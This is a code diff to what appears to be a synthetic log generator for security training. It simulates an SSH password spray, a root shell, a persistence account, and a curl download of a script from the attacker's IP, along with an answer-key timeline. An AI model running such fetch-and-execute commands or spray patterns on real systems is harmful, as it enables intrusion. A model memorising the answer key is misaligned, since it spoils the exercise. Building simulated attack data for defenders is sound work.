@@ -56,10 +56,28 @@ export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
   const records: Pending[] = [];
   const sshFlow = (t: number, port: number) => newFlow(rng, t, ip, port, PUBLIC_WEB_IP, 22);
   const fw = (t: number, port: number) =>
-    cef(t, 'allow', trafficExt({ src: ip, spt: port, dst: PUBLIC_WEB_IP, dpt: 22, proto: 'TCP', rule: 'Legacy-SSH-web-01', inIf: 'wan1', outIf: 'dmz1', natDst: web.ip }, 'allow'));
+    cef(
+      t,
+      'allow',
+      trafficExt(
+        {
+          src: ip,
+          spt: port,
+          dst: PUBLIC_WEB_IP,
+          dpt: 22,
+          proto: 'TCP',
+          rule: 'Legacy-SSH-web-01',
+          inIf: 'wan1',
+          outIf: 'dmz1',
+          natDst: web.ip,
+        },
+        'allow',
+      ),
+    );
 
   // The spray: every user once per round, 20-30 s apart, fixed password per round.
   let t = t0;
+  let lastFail = t0;
   for (let round = 0; round < ROUNDS; round++) {
     for (const user of SPRAY_USERS) {
       if (round === ROUNDS - 1 && user === 'deploy') continue; // succeeds below
@@ -67,17 +85,27 @@ export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
       const port = rng.int(32768, 60999);
       const invalid = !VALID.has(user);
       const f = sshFlow(t, port);
-      records.push(fw(t, port), conn(f, { service: 'ssh', duration: 2.4, origBytes: 1600, respBytes: 2100, state: 'SF', history: 'ShAdDaFf' }));
+      records.push(
+        fw(t, port),
+        conn(f, {
+          service: 'ssh',
+          duration: 2.4,
+          origBytes: 1600,
+          respBytes: 2100,
+          state: 'SF',
+          history: 'ShAdDaFf',
+        }),
+      );
       if (invalid) records.push(sshInvalidUser(t + SECOND, web.name, pid, user, ip, port));
       records.push(
         sshFailed(t + 2 * SECOND, web.name, pid, user, ip, port, invalid),
         ssh(t + 2 * SECOND, f, false, CLIENT),
         sshClosedPreauth(t + 3 * SECOND, web.name, pid, user, ip, port, invalid),
       );
+      lastFail = t + 2 * SECOND;
       t += rng.int(20, 30) * SECOND;
     }
   }
-  const sprayEnd = t;
 
   // Success as deploy, then a root shell, a download, and a new sudo-capable account.
   const win = t + 10 * SECOND;
@@ -86,7 +114,14 @@ export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
   const f = sshFlow(win, port);
   records.push(
     fw(win, port),
-    conn(f, { service: 'ssh', duration: 412.7, origBytes: 9800, respBytes: 48000, state: 'SF', history: 'ShAdDaFf' }),
+    conn(f, {
+      service: 'ssh',
+      duration: 412.7,
+      origBytes: 9800,
+      respBytes: 48000,
+      state: 'SF',
+      history: 'ShAdDaFf',
+    }),
     sshAccepted(win + 2 * SECOND, web.name, pid, 'deploy', ip, port, 'password'),
     ssh(win + 2 * SECOND, f, true, CLIENT),
     sshSessionOpened(win + 2 * SECOND, web.name, pid, 'deploy'),
@@ -98,10 +133,50 @@ export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
   const fetch = root + 40 * SECOND;
   const out = newFlow(rng, fetch, web.ip, rng.int(40000, 60000), ip, 80);
   records.push(
-    audit(fetch, web.name, fetch + 412, 88213, 'EXECVE', `argc=5 a0="curl" a1="-fsSL" a2="http://${ip}/x.sh" a3="-o" a4="/tmp/.x.sh"`),
-    cef(fetch, 'allow', trafficExt({ src: web.ip, spt: out.sport, dst: ip, dpt: 80, proto: 'TCP', rule: 'DMZ-to-Internet', inIf: 'dmz1', outIf: 'wan1', bytesOut: 180, bytesIn: 4211, natSrc: PUBLIC_WEB_IP }, 'allow')),
-    conn(out, { service: 'http', duration: 0.31, origBytes: 180, respBytes: 4211, state: 'SF', history: 'ShADadFf' }),
-    http(fetch + 90, out, { method: 'GET', host: ip, uri: '/x.sh', userAgent: 'curl/8.5.0', status: 200, respLen: 3907 }),
+    audit(
+      fetch,
+      web.name,
+      fetch + 412,
+      88213,
+      'EXECVE',
+      `argc=5 a0="curl" a1="-fsSL" a2="http://${ip}/x.sh" a3="-o" a4="/tmp/.x.sh"`,
+    ),
+    cef(
+      fetch,
+      'allow',
+      trafficExt(
+        {
+          src: web.ip,
+          spt: out.sport,
+          dst: ip,
+          dpt: 80,
+          proto: 'TCP',
+          rule: 'DMZ-to-Internet',
+          inIf: 'dmz1',
+          outIf: 'wan1',
+          bytesOut: 180,
+          bytesIn: 4211,
+          natSrc: PUBLIC_WEB_IP,
+        },
+        'allow',
+      ),
+    ),
+    conn(out, {
+      service: 'http',
+      duration: 0.31,
+      origBytes: 180,
+      respBytes: 4211,
+      state: 'SF',
+      history: 'ShADadFf',
+    }),
+    http(fetch + 90, out, {
+      method: 'GET',
+      host: ip,
+      uri: '/x.sh',
+      userAgent: 'curl/8.5.0',
+      status: 200,
+      respLen: 3907,
+    }),
   );
   const create = fetch + 55 * SECOND;
   records.push(
@@ -124,12 +199,28 @@ export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
       ips: [ip, PUBLIC_WEB_IP, web.ip],
       domains: [],
       steps: [
-        { time: t0, what: `first failed SSH password from ${ip}`, sources: ['linux-syslog', ...fwZeek] },
-        { time: sprayEnd, what: 'spray ends', sources: ['linux-syslog'] },
-        { time: win + 2 * SECOND, what: `Accepted password for deploy from ${ip}`, sources: ['linux-syslog', ...fwZeek] },
+        {
+          time: t0,
+          what: `first SSH attempt from ${ip} (its Failed password line follows 2 s later)`,
+          sources: ['linux-syslog', ...fwZeek],
+        },
+        { time: lastFail, what: `last failed SSH password from ${ip}`, sources: ['linux-syslog'] },
+        {
+          time: win + 2 * SECOND,
+          what: `Accepted password for deploy from ${ip}`,
+          sources: ['linux-syslog', ...fwZeek],
+        },
         { time: root, what: 'sudo by deploy: COMMAND=/bin/bash', sources: ['linux-syslog'] },
-        { time: fetch, what: `curl http://${ip}/x.sh (audit EXECVE, zeek http)`, sources: ['linux-syslog', ...fwZeek] },
-        { time: create + SECOND, what: 'useradd sysupd (UID 1002), then added to group sudo', sources: ['linux-syslog'] },
+        {
+          time: fetch,
+          what: `curl http://${ip}/x.sh (audit EXECVE, zeek http)`,
+          sources: ['linux-syslog', ...fwZeek],
+        },
+        {
+          time: create + SECOND,
+          what: 'useradd sysupd (UID 1002), then added to group sudo',
+          sources: ['linux-syslog'],
+        },
       ],
     },
     records,
